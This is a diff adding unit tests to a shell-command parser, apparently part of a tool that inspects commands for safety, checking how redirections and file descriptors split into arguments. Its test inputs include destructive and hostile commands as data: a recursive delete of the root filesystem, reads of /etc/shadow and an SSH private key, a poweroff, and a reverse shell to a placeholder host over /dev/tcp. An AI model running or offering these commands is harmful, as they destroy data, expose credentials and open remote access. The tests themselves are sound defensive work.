@@ -10,6 +10,19 @@ beforeAll(async () => {
 const argv = (text: string): string[][] => parser.parse(text).commands.filter((c) => c.words.length).map((c) => c.words.map((w) => w.text));
 
 describe("parse", () => {
+  it("keeps the words the grammar hangs on a redirection as the command's arguments", () => {
+    expect(argv("find 2>/dev/null / -delete")).toEqual([["find", "/", "-delete"]]);
+    expect(argv("cat 2>/dev/null /etc/shadow /root/.ssh/id_rsa")).toEqual([["cat", "/etc/shadow", "/root/.ssh/id_rsa"]]);
+    expect(argv("echo hi > /tmp/x foo")).toEqual([["echo", "hi", "foo"]]);
+    const [c] = parser.parse("systemctl 2>/dev/null poweroff").commands;
+    expect(c?.redirects.map((r) => `${r.op} ${r.target.text}`)).toEqual([">  /dev/null".replace("  ", " ")]);
+  });
+
+  it("reads a number glued to a redirection as its file descriptor, not a word", () => {
+    expect(argv("sh -i 0</dev/tcp/1.2.3.4/4444 1>&0 2>&0")).toEqual([["sh", "-i"]]);
+    expect(argv("echo 0 > /tmp/x")).toEqual([["echo", "0"]]);
+  });
+
   it("splits lists, pipelines, subshells and groups", () => {
     expect(argv("a x | b; (c && d) || { e; } & f")).toEqual([["a", "x"], ["b"], ["c"], ["d"], ["e"], ["f"]]);
   });
